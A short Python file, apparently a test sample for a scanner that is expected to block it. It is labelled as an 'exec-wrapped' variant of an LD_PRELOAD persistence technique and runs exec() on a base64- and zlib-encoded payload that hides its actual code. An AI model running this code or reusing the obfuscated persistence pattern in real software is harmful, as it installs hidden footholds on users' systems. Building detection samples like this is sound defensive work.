# expect: BLOCKED category: persistence variant-of: risky/persistence/ld_preload.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwljUEKAjEMRfdzihA3Dki79xQewE1sAy2GpiTV4u2nMh8+vM37/wIPY1HKDgRSX0b2g9qGAn95YTdN7B62WUcB7dyuGHmkKDm4hn7KeAOcuAM5FGpZ+L7ByslhWh28tI9bFE0kcR39W1Tfa+XZcD8AbScuAQ==')))
